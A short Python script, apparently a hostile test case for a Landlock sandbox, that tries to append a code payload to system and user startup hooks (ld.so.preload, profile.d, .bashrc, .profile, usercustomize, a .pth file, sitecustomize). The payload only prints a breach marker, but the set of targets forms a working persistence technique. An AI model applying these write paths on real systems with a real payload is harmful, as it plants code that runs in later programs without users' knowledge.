# attack: has every later program load its code
# contained: T1 T2 landlock
import os, site
print("attacking", flush=True)
payload = "import sys; sys.stderr.write('BREACH: loaded')\n"
for path in ("/etc/ld.so.preload", "/etc/profile.d/medic-hostile.sh", os.path.expanduser("~/.profile"),
             os.path.expanduser("~/.bashrc"), os.path.join(site.getusersitepackages(), "usercustomize.py"),
             os.path.join(site.getsitepackages()[0], "medic-hostile.pth"), "/tmp/sitecustomize.py", "sitecustomize.py"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "a") as file:
            file.write(payload)
    except OSError as error:
        print(error)
